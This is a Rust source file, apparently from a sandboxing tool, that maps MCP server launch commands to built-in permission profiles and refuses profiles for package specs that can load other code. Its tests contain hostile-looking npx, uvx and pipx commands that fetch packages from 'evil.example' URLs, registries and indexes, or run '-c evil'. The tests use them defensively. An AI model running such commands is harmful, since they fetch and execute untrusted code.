//! Choosing a built-in profile from the server's command line.
//!
//! `mcpcell run -- npx -y @modelcontextprotocol/server-filesystem ~/notes` should pick the
//! `filesystem` profile without `-p`. The package is found the way a person would read the
//! command: the package `npx`/`uvx`/`pipx run` runs, a `node_modules/<package>/` or
//! `site-packages/<module>/` path a `node`/`python` command runs, `python -m <module>`, or the
//! name of an installed server binary.

use std::ffi::OsString;
use std::path::Path;

use serde::Serialize;

/// A known MCP server: its profile, and the names it goes by.
struct Known {
    profile: &'static str,
    /// npm or PyPI package names.
    packages: &'static [&'static str],
    /// Executable names it installs, and Python module names.
    programs: &'static [&'static str],
}

static KNOWN: &[Known] = &[
    Known {
        profile: "filesystem",
        packages: &["@modelcontextprotocol/server-filesystem"],
        programs: &["mcp-server-filesystem"],
    },
    Known {
        profile: "memory",
        packages: &["@modelcontextprotocol/server-memory"],
        programs: &["mcp-server-memory"],
    },
    Known {
        profile: "everything",
        packages: &["@modelcontextprotocol/server-everything"],
        programs: &["mcp-server-everything"],
    },
    Known {
        profile: "sequential-thinking",
        packages: &["@modelcontextprotocol/server-sequential-thinking"],
        programs: &["mcp-server-sequential-thinking"],
    },
    Known {
        profile: "github",
        packages: &["@modelcontextprotocol/server-github"],
        programs: &["mcp-server-github"],
    },
    Known {
        profile: "brave-search",
        // The archived reference server goes by the same profile.
        packages: &[
            "@brave/brave-search-mcp-server",
            "@modelcontextprotocol/server-brave-search",
        ],
        programs: &["brave-search-mcp-server", "mcp-server-brave-search"],
    },
    Known {
        profile: "puppeteer",
        packages: &["@modelcontextprotocol/server-puppeteer"],
        programs: &["mcp-server-puppeteer"],
    },
    Known {
        profile: "playwright",
        packages: &["@playwright/mcp"],
        programs: &["mcp-server-playwright"],
    },
    Known {
        profile: "time",
        packages: &["mcp-server-time"],
        programs: &["mcp-server-time", "mcp_server_time"],
    },
    Known {
        profile: "git",
        packages: &["mcp-server-git"],
        programs: &["mcp-server-git", "mcp_server_git"],
    },
    Known {
        profile: "fetch",
        packages: &["mcp-server-fetch"],
        programs: &["mcp-server-fetch", "mcp_server_fetch"],
    },
    Known {
        profile: "sqlite",
        packages: &["mcp-server-sqlite"],
        programs: &["mcp-server-sqlite", "mcp_server_sqlite"],
    },
    Known {
        profile: "context7",
        packages: &["@upstash/context7-mcp"],
        programs: &["context7-mcp"],
    },
    Known {
        profile: "tavily",
        packages: &["tavily-mcp"],
        programs: &["tavily-mcp"],
    },
    Known {
        profile: "exa",
        packages: &["exa-mcp-server"],
        programs: &["exa-mcp-server"],
    },
    Known {
        profile: "perplexity-ask",
        packages: &["server-perplexity-ask"],
        programs: &["mcp-server-perplexity-ask"],
    },
    Known {
        profile: "slack",
        packages: &["@modelcontextprotocol/server-slack"],
        programs: &["mcp-server-slack"],
    },
    Known {
        profile: "firecrawl",
        packages: &["firecrawl-mcp"],
        programs: &["firecrawl-mcp"],
    },
    Known {
        profile: "notion",
        packages: &["@notionhq/notion-mcp-server"],
        programs: &["notion-mcp-server"],
    },
    Known {
        profile: "postgres",
        packages: &["@modelcontextprotocol/server-postgres"],
        programs: &["mcp-server-postgres"],
    },
    Known {
        profile: "desktop-commander",
        packages: &["@wonderwhy-er/desktop-commander"],
        programs: &["desktop-commander"],
    },
    Known {
        profile: "redis",
        packages: &["@modelcontextprotocol/server-redis"],
        programs: &["mcp-server-redis"],
    },
    Known {
        profile: "figma",
        packages: &["figma-developer-mcp"],
        programs: &["figma-developer-mcp"],
    },
    Known {
        profile: "aws-documentation",
        packages: &["awslabs.aws-documentation-mcp-server"],
        programs: &[
            "awslabs.aws-documentation-mcp-server",
            "awslabs.aws_documentation_mcp_server",
        ],
    },
    Known {
        profile: "sentry",
        packages: &["@sentry/mcp-server"],
        programs: &["sentry-mcp"],
    },
    Known {
        profile: "chrome-devtools",
        packages: &["chrome-devtools-mcp"],
        programs: &["chrome-devtools-mcp"],
    },
    Known {
        profile: "linear",
        packages: &["@tacticlaunch/mcp-linear"],
        programs: &["mcp-linear"],
    },
    Known {
        profile: "google-maps",
        packages: &["@modelcontextprotocol/server-google-maps"],
        programs: &["mcp-server-google-maps"],
    },
    Known {
        profile: "gitlab",
        packages: &["@modelcontextprotocol/server-gitlab"],
        programs: &["mcp-server-gitlab"],
    },
    Known {
        profile: "terraform",
        packages: &["terraform-mcp-server"],
        programs: &["terraform-mcp-server"],
    },
    Known {
        profile: "docker",
        packages: &["mcp-server-docker"],
        programs: &["mcp-server-docker", "mcp_server_docker"],
    },
    Known {
        profile: "prometheus",
        packages: &["prometheus-mcp-server"],
        programs: &["prometheus-mcp-server", "prometheus_mcp_server"],
    },
    Known {
        profile: "grafana",
        packages: &["mcp-grafana"],
        programs: &["mcp-grafana", "mcp_grafana"],
    },
    Known {
        profile: "home-assistant",
        // Its Python module is the generic `app`, which names no server: only the package
        // and its executable select the profile.
        packages: &["hass-mcp"],
        programs: &["hass-mcp"],
    },
    Known {
        profile: "atlassian",
        packages: &["mcp-atlassian"],
        programs: &["mcp-atlassian", "mcp_atlassian"],
    },
    Known {
        profile: "obsidian",
        packages: &["mcp-obsidian"],
        programs: &["mcp-obsidian", "mcp_obsidian"],
    },
];

/// The result of inference: which profile, for which package, and how it was recognised.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Inferred {
    pub profile: &'static str,
    pub package: String,
    pub how: String,
}

/// `@scope/name@1.2.3` → `@scope/name`; `name==1.0`, `name@1.0`, `name[extra]` → `name`.
pub fn package_name(spec: &str) -> &str {
    let spec = spec.trim();
    let cut = |s: &str, from: usize| -> usize {
        s[from..]
            .find(['@', '=', '<', '>', '~', '!', '[', ' ', ';'])
            .map(|i| i + from)
            .unwrap_or(s.len())
    };
    let start = usize::from(spec.starts_with('@'));
    let end = cut(spec, start);
    &spec[..end]
}

fn basename(a: &str) -> &str {
    a.rsplit('/').next().unwrap_or(a)
}

/// The registry a runner installs from: names compare differently in each.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Registry {
    Npm,
    PyPi,
}

/// PEP 503: case and runs of `-`, `_`, `.` do not distinguish PyPI projects. npm names are
/// compared exactly (`server_github` is another package than `server-github`).
fn normalise(name: &str, registry: Registry) -> String {
    match registry {
        Registry::Npm => name.to_string(),
        Registry::PyPi => {
            let mut out = String::new();
            for c in name.chars() {
                if matches!(c, '-' | '_' | '.') {
                    if !out.ends_with('-') {
                        out.push('-');
                    }
                } else {
                    out.push(c.to_ascii_lowercase());
                }
            }
            out
        }
    }
}

fn known_package(name: &str, registry: Registry) -> Option<&'static Known> {
    let n = normalise(name, registry);
    KNOWN
        .iter()
        .find(|k| k.packages.iter().any(|p| normalise(p, registry) == n))
}

fn known_program(name: &str) -> Option<&'static Known> {
    KNOWN.iter().find(|k| k.programs.contains(&name))
}

/// Whether what follows the name in a package spec only picks a version of that same
/// package from its registry: `@1.2.3`, `@latest`, `@^1.0`, `==2025.4.7`, `[cli]>=1,<2`.
/// Anything that can name another source (npm aliases `npm:`, `git+`, `github:`, `file:`,
/// URLs, paths, PEP 508 `@ URL`) has a `:` or `/`, or a second `@`, and is refused.
fn version_only(rest: &str, registry: Registry) -> bool {
    let mut rest = rest;
    if registry == Registry::PyPi {
        if let Some(r) = rest.strip_prefix('[') {
            let Some((extras, after)) = r.split_once(']') else {
                return false;
            };
            if !extras
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ",-_. ".contains(c))
            {
                return false;
            }
            rest = after;
        }
    }
    let rest = rest.strip_prefix('@').unwrap_or(rest);
    let version_char = |c: char| c.is_ascii_alphanumeric() || ".+-~^<>=!*|, ".contains(c);
    rest.chars().all(version_char)
}

/// A package spec for `registry`: the known server it names exactly, or why it cannot be
/// trusted to (for a spec that starts with a known server's name), or nothing.
fn package_spec(spec: &str, registry: Registry) -> Result<Option<&'static Known>, String> {
    let name = package_name(spec);
    let Some(known) = known_package(name, registry) else {
        return Ok(None);
    };
    let rest = &spec.trim()[name.len()..];
    if version_only(rest, registry) {
        Ok(Some(known))
    } else {
        Err(format!(
            "its package spec `{spec}` can name another package or source (an npm alias, a URL, a git or file reference)"
        ))
    }
}

/// How a runner's options are read: the flags that change nothing about which package runs,
/// and the options whose value does not either.
struct Runner {
    registry: Registry,
    flags: &'static [&'static str],
    /// Options with a value that only tunes the run (`uvx --python 3.12`): version-like
    /// values only.
    tuning: &'static [&'static str],
}

const NPM_RUNNER: Runner = Runner {
    registry: Registry::Npm,
    flags: &[
        "-y",
        "--yes",
        "--no",
        "-q",
        "--quiet",
        "--silent",
        "--prefer-offline",
        "--offline",
        "--prefer-online",
        "--bun",
        "--no-update-notifier",
    ],
    tuning: &[],
};

const UV_RUNNER: Runner = Runner {
    registry: Registry::PyPi,
    flags: &[
        "-q",
        "--quiet",
        "-v",
        "--verbose",
        "-n",
        "--no-cache",
        "--offline",
        "--no-progress",
        "--isolated",
        "--native-tls",
        "--refresh",
    ],
    tuning: &["--python", "-p"],
};

const PIPX_RUNNER: Runner = Runner {
    registry: Registry::PyPi,
    flags: &["-q", "--quiet", "-v", "--verbose", "--no-cache"],
    tuning: &["--python"],
};

/// What a runner's command line runs: the known server, or why the command may run another
/// package under its name, or nothing known. Every option must be one the runner reads as
/// changing nothing about which package runs; `--package`, `--from`, `--with`, an index, a
/// registry or a shell command (`-c`) all can.
fn runner_package(args: &[&str], r: &Runner) -> Result<Option<&'static Known>, String> {
    let mut i = 0;
    while i < args.len() {
        let a = args[i];
        if a == "--" {
            i += 1;
            break;
        }
        if !a.starts_with('-') || a == "-" {
            break;
        }
        let (opt, inline) = match a.split_once('=') {
            Some((o, v)) => (o, Some(v)),
            None => (a, None),
        };
        if r.flags.contains(&opt) && inline.is_none() {
            i += 1;
            continue;
        }
        if r.tuning.contains(&opt) {
            let value = inline.or_else(|| args.get(i + 1).copied()).unwrap_or("");
            let version_like =
                !value.is_empty() && value.chars().all(|c| c.is_ascii_digit() || c == '.');
            if version_like {
                i += if inline.is_some() { 1 } else { 2 };
                continue;
            }
        }
        // The command may run whatever this option says: look no further, but tell when
        // the package it names is a known server's.
        let named = args[i..].iter().filter(|x| !x.starts_with('-')).any(|x| {
            known_package(package_name(x), r.registry).is_some() || known_program(x).is_some()
        });
        return if named {
            Err(format!(
                "its option `{opt}` can make it run another package than the one it names"
            ))
        } else {
            Ok(None)
        };
    }
    match args.get(i) {
        Some(spec) => package_spec(spec, r.registry),
        None => Ok(None),
    }
}

/// A package named inside a path: `.../node_modules/@scope/name/...` or
/// `.../site-packages/module/...`.
fn package_in_path(p: &str) -> Option<(String, Registry)> {
    let parts: Vec<&str> = p.split('/').collect();
    for (i, part) in parts.iter().enumerate().rev() {
        if *part == "node_modules" {
            let first = parts.get(i + 1)?;
            return Some((
                if first.starts_with('@') {
                    format!("{first}/{}", parts.get(i + 2)?)
                } else {
                    first.to_string()
                },
                Registry::Npm,
            ));
        }
        if *part == "site-packages" || *part == "dist-packages" {
            return parts.get(i + 1).map(|m| (m.to_string(), Registry::PyPi));
        }
    }
    None
}

/// What [`recognise`] made of a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Recognition {
    /// A known server, named so that nothing else can run under its name.
    Known(Inferred),
    /// The command names a known server, but the way it names it could run another package:
    /// its profile (and the secrets and hosts it grants) must not be chosen for it.
    Doubtful {
        profile: &'static str,
        package: &'static str,
        why: String,
    },
    Unknown,
}

/// A command that fetches the package it runs from a registry when it starts (`npx -y`,
/// `uvx`, ...): it cannot work without that registry, and needs nothing else to start.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RegistryRunner {
    /// The built-in base that lets it reach the registry through the egress proxy.
    pub base: &'static str,
    /// How the command fetches: `npx`, `npm exec`, `uv tool run`, ...
    pub runner: String,
    /// The registry, for messages.
    pub registry: &'static str,
}

/// The registry runner a command is, whatever package it names and however it names it: the
/// base it gets grants the registry and the server's own state directory, no more, so it is
/// safe for any package (a known server's own profile is chosen by [`recognise`] first).
pub fn registry_runner(argv: &[OsString]) -> Option<RegistryRunner> {
    let first = argv.first()?.to_str()?;
    let second = argv.get(1).and_then(|a| a.to_str());
    let third = argv.get(2).and_then(|a| a.to_str());
    let cmd = basename(first);
    let npm = |runner: String| RegistryRunner {
        base: "npx",
        runner,
        registry: "the npm registry",
    };
    let pypi = |runner: String| RegistryRunner {
        base: "uvx",
        runner,
        registry: "PyPI",
    };
    match (cmd, second, third) {
        ("npx" | "bunx" | "pnpx", ..) => Some(npm(cmd.to_string())),
        ("npm", Some(sub @ ("exec" | "x")), _) | ("pnpm" | "yarn", Some(sub @ "dlx"), _) => {
            Some(npm(format!("{cmd} {sub}")))
        }
        ("uvx", ..) => Some(pypi(cmd.to_string())),
        ("uv", Some("tool"), Some("run")) => Some(pypi("uv tool run".into())),
        ("pipx", Some("run"), _) => Some(pypi("pipx run".into())),
        _ => None,
    }
}

/// Recognises the MCP server a command runs (the tests' shorthand for [`recognise`]).
#[cfg(test)]
fn infer(argv: &[OsString]) -> Option<Inferred> {
    match recognise(argv) {
        Recognition::Known(i) => Some(i),
        _ => None,
    }
}

/// Recognises the MCP server a command runs, and says when a name is not to be trusted.
pub fn recognise(argv: &[OsString]) -> Recognition {
    let args: Vec<&str> = argv.iter().filter_map(|a| a.to_str()).collect();
    if args.len() != argv.len() {
        return Recognition::Unknown;
    }
    let Some((first, rest)) = args.split_first() else {
        return Recognition::Unknown;
    };
    let cmd = basename(first);
    let known = |k: &'static Known, how: String| {
        Recognition::Known(Inferred {
            profile: k.profile,
            package: k.packages[0].to_string(),
            how,
        })
    };
    let runner = |args: &[&str], r: &Runner, how: String| match runner_package(args, r) {
        Ok(Some(k)) => known(k, how),
        Ok(None) => Recognition::Unknown,
        Err(why) => {
            // Which known server it claims to be, for the message.
            let k = args.iter().filter(|x| !x.starts_with('-')).find_map(|x| {
                known_package(package_name(x), r.registry).or_else(|| known_program(x))
            });
            match k {
                Some(k) => Recognition::Doubtful {
                    profile: k.profile,
                    package: k.packages[0],
                    why,
                },
                None => Recognition::Unknown,
            }
        }
    };
    match cmd {
        "npx" | "bunx" | "pnpx" => runner(rest, &NPM_RUNNER, format!("the package `{cmd}` runs")),
        "uvx" => runner(rest, &UV_RUNNER, format!("the package `{cmd}` runs")),
        "npm" | "pnpm" if matches!(rest.first(), Some(&"exec") | Some(&"x") | Some(&"dlx")) => {
            runner(
                &rest[1..],
                &NPM_RUNNER,
                format!("the package `{cmd} {}` runs", rest[0]),
            )
        }
        "uv" if rest.len() >= 2 && rest[0] == "tool" && rest[1] == "run" => runner(
            &rest[2..],
            &UV_RUNNER,
            "the package `uv tool run` runs".into(),
        ),
        "pipx" if rest.first() == Some(&"run") => runner(
            &rest[1..],
            &PIPX_RUNNER,
            "the package `pipx run` runs".into(),
        ),
        c if c.starts_with("node") || c == "bun" || c == "deno" || c.starts_with("python") => {
            if let Some(i) = rest.iter().position(|a| *a == "-m") {
                let Some(module) = rest.get(i + 1) else {
                    return Recognition::Unknown;
                };
                return match known_program(module) {
                    Some(k) => known(k, format!("the module `{cmd} -m {module}` runs")),
                    None => Recognition::Unknown,
                };
            }
            let Some(script) = rest.iter().find(|a| !a.starts_with('-')) else {
                return Recognition::Unknown;
            };
            if let Some((pkg, registry)) = package_in_path(script) {
                return match known_package(&pkg, registry) {
                    Some(k) => known(k, format!("the script `{script}` belongs to it")),
                    None => Recognition::Unknown,
                };
            }
            let name = Path::new(script)
                .file_stem()
                .and_then(|s| s.to_str())
                .unwrap_or("");
            match known_program(name) {
                Some(k) => known(k, format!("the script `{script}` is its entry point")),
                None => Recognition::Unknown,
            }
        }
        _ => {
            if let Some(k) = known_program(cmd) {
                return known(k, format!("`{cmd}` is its executable"));
            }
            match package_in_path(first).and_then(|(p, r)| known_package(&p, r)) {
                Some(k) => known(k, format!("`{first}` belongs to it")),
                None => Recognition::Unknown,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inf(cmd: &str) -> Option<(&'static str, String)> {
        let argv: Vec<OsString> = cmd.split_whitespace().map(OsString::from).collect();
        infer(&argv).map(|i| (i.profile, i.package))
    }

    #[test]
    fn registry_runners_get_their_registry_base() {
        let base = |cmd: &str| {
            let argv: Vec<OsString> = cmd.split(' ').map(OsString::from).collect();
            registry_runner(&argv).map(|r| (r.base, r.runner))
        };
        for (cmd, b, runner) in [
            ("npx -y some-unknown-server", "npx", "npx"),
            ("/usr/bin/npx --package=x -c y", "npx", "npx"),
            ("bunx some-server", "npx", "bunx"),
            ("npm exec -y -- some-server", "npx", "npm exec"),
            ("npm x some-server", "npx", "npm x"),
            ("pnpm dlx some-server", "npx", "pnpm dlx"),
            ("yarn dlx some-server", "npx", "yarn dlx"),
            ("uvx some-server", "uvx", "uvx"),
            ("uv tool run some-server", "uvx", "uv tool run"),
            ("pipx run some-server", "uvx", "pipx run"),
        ] {
            assert_eq!(base(cmd), Some((b, runner.to_string())), "{cmd}");
        }
        for cmd in [
            "node server.js",
            "npm install x",
            "npm run start",
            "pnpm exec local-bin",
            "uv run server.py",
            "uv tool install x",
            "pipx install x",
            "python3 -m x",
        ] {
            assert_eq!(base(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn package_runners() {
        let fs = Some((
            "filesystem",
            "@modelcontextprotocol/server-filesystem".to_string(),
        ));
        assert_eq!(
            inf("npx -y @modelcontextprotocol/server-filesystem /home/u/notes"),
            fs
        );
        assert_eq!(
            inf("/usr/bin/npx --yes @modelcontextprotocol/server-filesystem@2025.1.1 ."),
            fs
        );
        assert_eq!(
            inf("npm exec --yes -- @modelcontextprotocol/server-filesystem ."),
            fs
        );
        assert_eq!(
            inf("uvx mcp-server-git --repository ."),
            Some(("git", "mcp-server-git".into()))
        );
        assert_eq!(
            inf("uvx mcp-server-fetch==2025.4.7"),
            Some(("fetch", "mcp-server-fetch".into()))
        );
        assert_eq!(
            inf("uv tool run mcp-server-sqlite --db-path x.db"),
            Some(("sqlite", "mcp-server-sqlite".into()))
        );
        assert_eq!(
            inf("pipx run mcp-server-time"),
            Some(("time", "mcp-server-time".into()))
        );
        assert_eq!(
            inf("npx -y @playwright/mcp@latest"),
            Some(("playwright", "@playwright/mcp".into()))
        );
        assert_eq!(inf("npx -y some-other-server"), None);
    }

    #[test]
    fn interpreters_and_installed_binaries() {
        assert_eq!(
            inf("node /opt/mcp/node_modules/@modelcontextprotocol/server-memory/dist/index.js"),
            Some(("memory", "@modelcontextprotocol/server-memory".into()))
        );
        assert_eq!(
            inf("python3 -m mcp_server_git --repository /src"),
            Some(("git", "mcp-server-git".into()))
        );
        assert_eq!(
            inf(
                "/home/u/.venv/bin/python /home/u/.venv/lib/python3.11/site-packages/mcp_server_time/__main__.py"
            ),
            Some(("time", "mcp-server-time".into()))
        );
        assert_eq!(
            inf("/home/u/.local/bin/mcp-server-fetch"),
            Some(("fetch", "mcp-server-fetch".into()))
        );
        assert_eq!(
            inf("mcp-server-filesystem /data"),
            Some((
                "filesystem",
                "@modelcontextprotocol/server-filesystem".into()
            ))
        );
        assert_eq!(inf("node server.js"), None);
        assert_eq!(inf("/bin/true"), None);
    }

    fn doubtful(cmd: &str) -> Option<&'static str> {
        let argv: Vec<OsString> = cmd.split_whitespace().map(OsString::from).collect();
        match recognise(&argv) {
            Recognition::Doubtful { profile, .. } => Some(profile),
            _ => None,
        }
    }

    /// Every way a command can name a known server and still run another package gets no
    /// named profile; the same command without the redirection does.
    #[test]
    fn specs_that_can_name_another_package_select_no_server_profile() {
        let github = "@modelcontextprotocol/server-github";
        for cmd in [
            // npm aliases, git, tarball URLs, local paths, file:, github: shorthand.
            format!("npx -y {github}@npm:other-package"),
            format!("npx -y {github}@npm:{github}@1.0.0"),
            format!("npx {github}@git+https://evil.example/x.git"),
            format!("npx {github}@github:evil/repo"),
            format!("npx {github}@https://evil.example/x.tgz"),
            format!("npx {github}@file:../x"),
            format!("npx {github}@../x"),
            format!("npx {github}@evil/repo"),
            format!("npx {github}@1.0.0@npm:x"),
            format!("bunx {github}@npm:x"),
            format!("pnpm dlx {github}@npm:x"),
            format!("npm exec -- {github}@link:../x"),
            // Options that choose the package or the code that runs.
            format!("npx -p other-package {github}"),
            format!("npx --package=other-package {github}"),
            format!("npx -p {github} mcp-server-github"),
            format!("npx -c evil {github}"),
            format!("npx --call=evil {github}"),
            format!("npx --registry=https://evil.example/ {github}"),
            format!("npm exec --registry https://evil.example/ -- {github}"),
            format!("npx --userconfig /tmp/x {github}"),
            "uvx --from other-package mcp-server-git".into(),
            "uvx --from=git+https://evil.example/x mcp-server-git".into(),
            "uvx --with evil mcp-server-git".into(),
            "uvx --with-editable ./evil mcp-server-git".into(),
            "uvx --index https://evil.example/simple mcp-server-git".into(),
            "uvx --index-url https://evil.example/simple mcp-server-git".into(),
            "uvx --find-links /tmp/wheels mcp-server-git".into(),
            "uvx --python /tmp/evil/python mcp-server-git".into(),
            "uv tool run --from other mcp-server-git".into(),
            "pipx run --spec git+https://evil.example/x mcp-server-git".into(),
            "uvx mcp-server-git@git+https://evil.example/x".into(),
            "uvx mcp-server-git@https://evil.example/x.whl".into(),
            "uvx mcp-server-git@file:///tmp/x".into(),
        ] {
            assert_eq!(inf(&cmd), None, "{cmd}");
            assert!(doubtful(&cmd).is_some(), "{cmd}: not reported");
        }
        // PEP 508 direct references are one argument with spaces.
        let argv: Vec<OsString> = ["uvx", "mcp-server-git @ https://evil.example/x.whl"]
            .iter()
            .map(OsString::from)
            .collect();
        assert!(matches!(recognise(&argv), Recognition::Doubtful { .. }));
        // Specs that name something else entirely are simply not recognised.
        for cmd in [
            "npx github:modelcontextprotocol/servers",
            "npx ./node_modules/@modelcontextprotocol/server-github",
            "npx file:../server-github",
            "npx https://evil.example/server-github.tgz",
            "npx @modelcontextprotocol/server_github",
            "npx -p other-package some-bin",
        ] {
            assert_eq!(inf(cmd), None, "{cmd}");
            assert_eq!(doubtful(cmd), None, "{cmd}");
        }
        // What still selects the profile: a name, a version, a tag or a range of it.
        for cmd in [
            format!("npx -y {github}"),
            format!("npx --yes {github}@2025.4.8"),
            format!("npx -y {github}@latest"),
            format!("npx -y {github}@^2025.1"),
            format!("npm exec --yes -- {github}"),
            format!("pnpm dlx {github}"),
        ] {
            assert_eq!(inf(&cmd).map(|i| i.0), Some("github"), "{cmd}");
        }
        for cmd in [
            "uvx mcp-server-git",
            "uvx mcp_server_git",
            "uvx mcp-server-git==2025.1.14",
            "uvx mcp-server-git@2025.1.14",
            "uvx mcp-server-git[cli]>=1,<2",
            "uvx --python 3.12 mcp-server-git",
            "uvx -q --offline mcp-server-git",
            "uv tool run mcp-server-git",
            "pipx run mcp-server-git",
        ] {
            assert_eq!(inf(cmd).map(|i| i.0), Some("git"), "{cmd}");
        }
    }

    /// Each server of the profile library is recognised by its package and its executable.
    #[test]
    fn server_library() {
        for k in KNOWN {
            for p in k.packages {
                assert_eq!(
                    inf(&format!("npx -y {p}")).map(|i| i.0),
                    Some(k.profile),
                    "{p}"
                );
            }
            for p in k.programs {
                assert_eq!(inf(p).map(|i| i.0), Some(k.profile), "{p}");
            }
        }
        // The archived Brave package still selects the profile of the maintained one.
        assert_eq!(
            inf("npx -y @modelcontextprotocol/server-brave-search"),
            Some(("brave-search", "@brave/brave-search-mcp-server".into()))
        );
    }

    #[test]
    fn package_specs() {
        assert_eq!(package_name("@scope/pkg@1.2.3"), "@scope/pkg");
        assert_eq!(package_name("pkg==1.0"), "pkg");
        assert_eq!(package_name("pkg[extra]>=2"), "pkg");
        assert_eq!(package_name("pkg@latest"), "pkg");
    }
}
